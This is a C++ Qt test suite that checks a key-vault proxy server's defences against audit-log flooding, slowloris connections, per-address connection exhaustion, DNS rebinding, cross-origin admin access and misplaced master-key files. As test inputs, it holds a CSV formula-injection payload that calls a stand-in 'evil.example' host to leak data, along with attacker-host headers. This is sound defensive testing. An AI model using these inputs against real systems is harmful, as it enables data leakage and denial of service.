// What an unauthenticated network client, a web page and a copy of the state directory can do to
// keybraked (issue 11: M5, L1, L2, the Host and Origin checks): flood the audit log with unknown
// vault keys, hold connections open with half-sent headers, write formulas into the audit CSV,
// reach the admin API from a browser, and read the master key out of the store's directory.
#include "auditreader.h"
#include "testserver.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QHostAddress>
#include <QJsonArray>
#include <QJsonDocument>
#include <QTcpSocket>
#include <QtTest>

using namespace keybrake::test;

namespace {

QByteArray get(const QByteArray &target, const QList<QByteArray> &headers)
{
    QByteArray request = "GET " + target + " HTTP/1.1\r\nConnection: close\r\n";
    for (const QByteArray &header : headers)
        request += header + "\r\n";
    return request + "\r\n";
}

// A connection from `source` (any 127.x address is loopback on Linux).
std::unique_ptr<QTcpSocket> connectFrom(const QString &source, quint16 port)
{
    auto socket = std::make_unique<QTcpSocket>();
    if (!socket->bind(QHostAddress(source), 0))
        return nullptr;
    socket->connectToHost(QHostAddress::LocalHost, port);
    if (!socket->waitForConnected(5000))
        return nullptr;
    return socket;
}

// Reads until the server closes the connection or `timeoutMs` passes; true when it closed.
bool waitForClose(QTcpSocket &socket, int timeoutMs, QByteArray *received = nullptr)
{
    QDeadlineTimer deadline(timeoutMs);
    while (!deadline.hasExpired()) {
        if (socket.state() != QAbstractSocket::ConnectedState)
            return true;
        socket.waitForReadyRead(50);
        const QByteArray data = socket.readAll();
        if (received)
            *received += data;
    }
    return socket.state() != QAbstractSocket::ConnectedState;
}

QList<QJsonObject> invalidKeyRows(TestServer &server)
{
    QUrlQuery query;
    query.addQueryItem(QStringLiteral("verdict"), QStringLiteral("denied_invalid_key"));
    return readAudit(server, query);
}

} // namespace

class TestNetworkEdge : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void invalidKeyRefusalsAreAggregated();
    void auditCsvDefusesFormulas();
    void headerMustArriveWithinHeaderTimeout();
    void connectionsPerAddressAreCapped();
    void adminRoutesRefuseForeignHostAndBrowserOrigin();
    void masterKeyRefusedInsideStoreDirectory();
    void masterKeyDefaultIsNotBesideTheDatabase();
    void masterKeyFromSystemdCredential();
};

// M5: 300 requests with an unknown vault key from one address in one minute were 300 audit rows
// (1.7 KB each in the store). Now: the first is a row, the other 299 one summary row with their
// count, written once the minute is over.
void TestNetworkEdge::invalidKeyRefusalsAreAggregated()
{
    TestServer::Options options;
    options.testClock = true;
    TestServer server(options);
    QVERIFY2(server.start(), qPrintable(server.errorString()));

    constexpr int kRequests = 300;
    for (int i = 0; i < kRequests; ++i) {
        const HttpResult result = server.proxy("POST", QStringLiteral("/stripe/v1/charges"),
                                               stripeCharge(100), QStringLiteral("vault_key_nope"));
        QCOMPARE(result.status, 401);
    }
    QList<QJsonObject> rows = invalidKeyRows(server);
    QCOMPARE(rows.size(), 1);
    QCOMPARE(rows.front()
                 .value(QStringLiteral("params"))
                 .toObject()
                 .value(QStringLiteral("source"))
                 .toString(),
             QStringLiteral("127.0.0.1"));

    // The minute ends: the summary row appears (the server flushes every second).
    QVERIFY(server.advanceClock(QStringLiteral("2m")));
    QTRY_COMPARE_WITH_TIMEOUT(invalidKeyRows(server).size(), 2, 10000);
    rows = invalidKeyRows(server);
    const QJsonObject summary = rows.front().value(QStringLiteral("params")).toObject();
    QCOMPARE(summary.value(QStringLiteral("aggregated")).toBool(), true);
    QCOMPARE(summary.value(QStringLiteral("source")).toString(), QStringLiteral("127.0.0.1"));
    QCOMPARE(summary.value(QStringLiteral("repeated")).toInt(), kRequests - 1);
    QCOMPARE(rows.front().value(QStringLiteral("reason")).toString(),
             QStringLiteral("invalid_key"));

    // A new minute opens a new bucket: refusals are never invisible for long.
    QCOMPARE(server
                 .proxy("POST", QStringLiteral("/stripe/v1/charges"), stripeCharge(100),
                        QStringLiteral("vault_key_nope"))
                 .status,
             401);
    QTRY_COMPARE_WITH_TIMEOUT(invalidKeyRows(server).size(), 3, 10000);
}

// L1: cells an attacker chooses (an unauthenticated Idempotency-Key, a key name) must not be
// formulas when the CSV is opened in a spreadsheet; numbers stay numbers.
void TestNetworkEdge::auditCsvDefusesFormulas()
{
    TestServer server;
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    const QByteArray formula = "=HYPERLINK(\"http://evil.example/?leak\",\"open\")";
    const HttpResult refused =
        server.proxy("POST", QStringLiteral("/stripe/v1/charges"), stripeCharge(100),
                     QStringLiteral("vault_key_nope"), "application/x-www-form-urlencoded",
                     {{"Idempotency-Key", formula}});
    QCOMPARE(refused.status, 401);
    QJsonObject policy {
        {QStringLiteral("vendor"), QStringLiteral("stripe")},
        {QStringLiteral("daily_usd_cap"), 5},
        {QStringLiteral("allowed_endpoints"), QJsonArray {QStringLiteral("charges.create")}},
        {QStringLiteral("expires_in"), QStringLiteral("15m")},
        {QStringLiteral("name"), QStringLiteral("+1 agent")},
        {QStringLiteral("agent_run_label"), QStringLiteral("@run/-7")}};
    const QJsonObject key = server.issueKey(policy);
    QVERIFY(!key.isEmpty());
    const HttpResult charged =
        server.proxy("POST", QStringLiteral("/stripe/v1/charges"), stripeCharge(250),
                     key.value(QStringLiteral("vault_key")).toString());
    QCOMPARE(charged.status, 200);

    const HttpResult csv =
        server.request("GET", QStringLiteral("/v1/audit.csv?kind=call"), {}, server.adminKey());
    QCOMPARE(csv.status, 200);
    // The Idempotency-Key holds quotes and commas, so libcsv quotes the whole defused cell.
    QVERIFY2(csv.body.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"open\"\")\""),
             csv.body.constData());
    QVERIFY(!csv.body.contains(",=HYPERLINK") && !csv.body.contains("\"=HYPERLINK"));
    QVERIFY2(csv.body.contains(",'+1 agent,'@run/-7,"), csv.body.constData());
    QVERIFY(!csv.body.contains(",+1 agent,"));
    // Numbers untouched: the charge's cost and status.
    QVERIFY2(csv.body.contains(",200,200,2.5,"), csv.body.constData());
}

// M5: a client that trickles its header (slowloris) or sends nothing holds a connection for the
// header timeout at most, while a kept-alive connection may still idle for the idle timeout.
void TestNetworkEdge::headerMustArriveWithinHeaderTimeout()
{
    TestServer::Options options;
    options.startSim = false;
    options.serverArgs = {QStringLiteral("--header-timeout-s"), QStringLiteral("1"),
                          QStringLiteral("--idle-timeout-s"), QStringLiteral("30")};
    TestServer server(options);
    QVERIFY2(server.start(), qPrintable(server.errorString()));

    // A trickled header: one byte every 200 ms never completes; cut after ~1 s (not 30 s).
    auto trickle = connectFrom(QStringLiteral("127.0.0.1"), server.port());
    QVERIFY(trickle);
    const QByteArray partial = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: aaaaaaaaaaaaaa";
    QElapsedTimer clock;
    clock.start();
    bool closed = false;
    for (qsizetype i = 0; i < partial.size() && !closed; ++i) {
        trickle->write(partial.mid(i, 1));
        trickle->waitForBytesWritten(1000);
        closed = waitForClose(*trickle, 200);
    }
    closed = closed || waitForClose(*trickle, 5000);
    QVERIFY(closed);
    QVERIFY2(clock.elapsed() < 5000, qPrintable(QString::number(clock.elapsed())));

    // A new connection that sends nothing is cut after the header timeout too.
    auto silent = connectFrom(QStringLiteral("127.0.0.1"), server.port());
    QVERIFY(silent);
    clock.restart();
    QVERIFY(waitForClose(*silent, 6000));
    QVERIFY2(clock.elapsed() < 5000, qPrintable(QString::number(clock.elapsed())));

    // A kept-alive connection idles past the header timeout and still serves its next request.
    auto kept = connectFrom(QStringLiteral("127.0.0.1"), server.port());
    QVERIFY(kept);
    const QByteArray request = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
    kept->write(request);
    QByteArray first;
    QVERIFY(!waitForClose(*kept, 500, &first));
    QVERIFY(first.startsWith("HTTP/1.1 200"));
    QVERIFY(!waitForClose(*kept, 2500)); // idle 3 s in all: over the header timeout
    kept->write(request);
    QByteArray second;
    waitForClose(*kept, 1000, &second);
    QVERIFY2(second.startsWith("HTTP/1.1 200"), second.constData());
}

// M5: one address cannot take every connection: past its share it gets 503 at once, while
// another address is still served.
void TestNetworkEdge::connectionsPerAddressAreCapped()
{
    TestServer::Options options;
    options.startSim = false;
    options.serverArgs = {QStringLiteral("--max-connections-per-address"), QStringLiteral("4"),
                          QStringLiteral("--header-timeout-s"), QStringLiteral("30")};
    TestServer server(options);
    QVERIFY2(server.start(), qPrintable(server.errorString()));

    std::vector<std::unique_ptr<QTcpSocket>> held;
    for (int i = 0; i < 4; ++i) {
        held.push_back(connectFrom(QStringLiteral("127.0.0.2"), server.port()));
        QVERIFY(held.back());
    }
    QTest::qWait(200); // the server has accepted them
    auto fifth = connectFrom(QStringLiteral("127.0.0.2"), server.port());
    QVERIFY(fifth);
    QByteArray refused;
    QVERIFY(waitForClose(*fifth, 5000, &refused));
    QVERIFY2(refused.startsWith("HTTP/1.1 503"), refused.constData());
    QVERIFY(refused.contains("too_many_connections"));

    // The legitimate client on another address is not delayed.
    QElapsedTimer clock;
    clock.start();
    const HttpResult health = server.request("GET", QStringLiteral("/healthz"));
    QCOMPARE(health.status, 200);
    QVERIFY(clock.elapsed() < 2000);

    // Closing one held connection frees a place for that address.
    held.front()->close();
    held.erase(held.begin());
    QTest::qWait(300);
    auto again = connectFrom(QStringLiteral("127.0.0.2"), server.port());
    QVERIFY(again);
    again->write("GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");
    QByteArray served;
    waitForClose(*again, 5000, &served);
    QVERIFY2(served.startsWith("HTTP/1.1 200"), served.constData());
}

// DNS rebinding and cross-site requests: a page cannot read or change the admin API through the
// victim's browser. Agents' proxy calls are unaffected by either header.
void TestNetworkEdge::adminRoutesRefuseForeignHostAndBrowserOrigin()
{
    TestServer server;
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    const QByteArray bearer = "Authorization: Bearer " + server.adminKey().toLatin1();
    const QByteArray port = QByteArray::number(server.port());

    HttpResult ok = rawHttp(server.port(), get("/v1/keys", {"Host: localhost:" + port, bearer}));
    QCOMPARE(ok.status, 200);
    ok = rawHttp(server.port(), get("/v1/keys", {"Host: 127.0.0.1:" + port, bearer}));
    QCOMPARE(ok.status, 200);

    // A rebound name: the browser sends the attacker's host name.
    const HttpResult rebound =
        rawHttp(server.port(), get("/v1/keys", {"Host: attacker.example:" + port, bearer}));
    QCOMPARE(rebound.status, 421);
    QVERIFY(rebound.body.contains("host_not_allowed"));
    const HttpResult noHost = rawHttp(server.port(), get("/v1/events", {}));
    QCOMPARE(noHost.status, 421);

    // A cross-site request from a page, even with the right Host and a key.
    const HttpResult cross = rawHttp(
        server.port(),
        get("/v1/keys", {"Host: 127.0.0.1:" + port, bearer, "Origin: https://attacker.example"}));
    QCOMPARE(cross.status, 403);
    QVERIFY(cross.body.contains("browser_origin_refused"));
    const HttpResult sameOrigin = rawHttp(
        server.port(),
        get("/v1/audit.csv", {"Host: 127.0.0.1:" + port, bearer, "Sec-Fetch-Site: same-origin"}));
    QCOMPARE(sameOrigin.status, 403);

    // Proxy routes: an SDK's Host and any headers still reach the vault-key check.
    const HttpResult proxied = rawHttp(server.port(),
                                       get("/stripe/v1/charges/ch_1",
                                           {"Host: api.stripe.example", "Origin: https://x.example",
                                            "Authorization: Bearer vault_key_nope"}));
    QCOMPARE(proxied.status, 401);
    QCOMPARE(rawHttp(server.port(), get("/healthz", {"Host: anything.example"})).status, 200);

    // A configured list replaces the defaults.
    TestServer::Options options;
    options.startSim = false;
    options.serverArgs = {QStringLiteral("--admin-hosts"), QStringLiteral("keybrake.internal")};
    TestServer named(options);
    QVERIFY2(named.start(), qPrintable(named.errorString()));
    const QByteArray namedBearer = "Authorization: Bearer " + named.adminKey().toLatin1();
    QCOMPARE(
        rawHttp(named.port(), get("/v1/keys", {"Host: keybrake.internal", namedBearer})).status,
        200);
    QCOMPARE(rawHttp(named.port(), get("/v1/keys", {"Host: 127.0.0.1", namedBearer})).status, 421);
}

// L2: a master key in the store's directory travels with every copy of it.
void TestNetworkEdge::masterKeyRefusedInsideStoreDirectory()
{
    QTemporaryDir state;
    TestServer::Options options;
    options.startSim = false;
    options.storePath = state.filePath(QStringLiteral("keybrake.db"));
    options.serverEnv.insert(QStringLiteral("KEYBRAKE_MASTER_KEY_FILE"),
                             state.filePath(QStringLiteral("sub/master.key")));
    TestServer refused(options);
    QVERIFY(!refused.start());
    QVERIFY2(refused.errorString().contains(QStringLiteral("is inside the store's directory")),
             qPrintable(refused.errorString()));
    QVERIFY(!QFile::exists(state.filePath(QStringLiteral("sub/master.key"))));

    options.serverArgs = {QStringLiteral("--allow-master-key-in-store-dir")};
    TestServer allowed(options);
    QVERIFY2(allowed.start(), qPrintable(allowed.errorString()));
    QVERIFY(QFile::exists(state.filePath(QStringLiteral("sub/master.key"))));
}

// L2: with no setting the key goes to the user's configuration directory, never beside the
// database (the old default was the database path + ".key").
void TestNetworkEdge::masterKeyDefaultIsNotBesideTheDatabase()
{
    QTemporaryDir home;
    TestServer::Options options;
    options.startSim = false;
    options.unsetEnv = {QStringLiteral("KEYBRAKE_MASTER_KEY_FILE"),
                        QStringLiteral("XDG_CONFIG_HOME"), QStringLiteral("CREDENTIALS_DIRECTORY")};
    options.serverEnv.insert(QStringLiteral("HOME"), home.path());
    TestServer server(options);
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    QVERIFY(!QFile::exists(server.storePath() + QStringLiteral(".key")));
    QFile key(home.filePath(QStringLiteral(".config/keybrake/master.key")));
    QVERIFY(key.exists());
    QCOMPARE(key.size(), 32);
    QCOMPARE(key.permissions() & (QFile::ReadGroup | QFile::ReadOther), QFile::Permissions());
    server.stopServer();

    // A key left at the old place is not silently replaced: the sentence says where to move it.
    QFile::remove(key.fileName());
    QFile old(server.storePath() + QStringLiteral(".key"));
    QVERIFY(old.open(QIODevice::WriteOnly));
    old.write(QByteArray(32, 'k'));
    old.close();
    QVERIFY(!server.restartServer());
    QVERIFY2(server.errorString().contains(QStringLiteral("beside the database")),
             qPrintable(server.errorString()));
}

// L2: systemd's LoadCredential= hands the key over in $CREDENTIALS_DIRECTORY, read-only.
void TestNetworkEdge::masterKeyFromSystemdCredential()
{
    QTemporaryDir credentials;
    TestServer::Options options;
    options.startSim = false;
    options.unsetEnv = {QStringLiteral("KEYBRAKE_MASTER_KEY_FILE")};
    options.serverEnv.insert(QStringLiteral("CREDENTIALS_DIRECTORY"), credentials.path());
    TestServer missing(options);
    QVERIFY(!missing.start());
    QVERIFY2(missing.errorString().contains(QStringLiteral("LoadCredential")),
             qPrintable(missing.errorString()));
    QVERIFY(!QFile::exists(credentials.filePath(QStringLiteral("keybrake-master-key"))));

    QFile key(credentials.filePath(QStringLiteral("keybrake-master-key")));
    QVERIFY(key.open(QIODevice::WriteOnly));
    key.write(QByteArray(32, '\x5a'));
    key.close();
    TestServer server(options);
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    // An idempotent issuance is sealed with it and replayed.
    QJsonObject policy {
        {QStringLiteral("vendor"), QStringLiteral("stripe")},
        {QStringLiteral("daily_usd_cap"), 1},
        {QStringLiteral("allowed_endpoints"), QJsonArray {QStringLiteral("charges.create")}},
        {QStringLiteral("expires_in"), QStringLiteral("15m")}};
    const QJsonObject first = server.issueKey(policy, "issue-once-1");
    const QJsonObject again = server.issueKey(policy, "issue-once-1");
    QVERIFY(!first.value(QStringLiteral("vault_key")).toString().isEmpty());
    QCOMPARE(again.value(QStringLiteral("vault_key")), first.value(QStringLiteral("vault_key")));
}

QTEST_GUILESS_MAIN(TestNetworkEdge)
#include "tst_network_edge.moc"
